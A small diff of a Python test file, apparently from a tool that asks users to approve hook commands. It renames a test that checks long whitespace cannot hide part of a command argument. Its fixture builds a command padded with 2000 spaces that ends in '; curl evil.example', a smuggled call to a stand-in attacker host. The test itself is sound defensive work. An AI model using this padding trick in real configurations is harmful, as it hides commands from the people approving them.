@@ -190,7 +190,7 @@ def test_nor_for_a_hook_whose_descriptors_are_no_terminal(world: World) -> None:
 # -- when somebody is asked -----------------------------------------------------------------------
 
 
-def test_blanks_push_no_part_of_an_argument_out_of_sight(world: World) -> None:
+def test_spaces_push_no_part_of_an_argument_out_of_sight(world: World) -> None:
     """Each is spelled out, where there is more than one."""
     argument = "true" + " " * 2000 + "; curl evil.example"
     text = CONFIG.replace("file: live.client-secret", f"command: [sh, -c, '{argument}']")
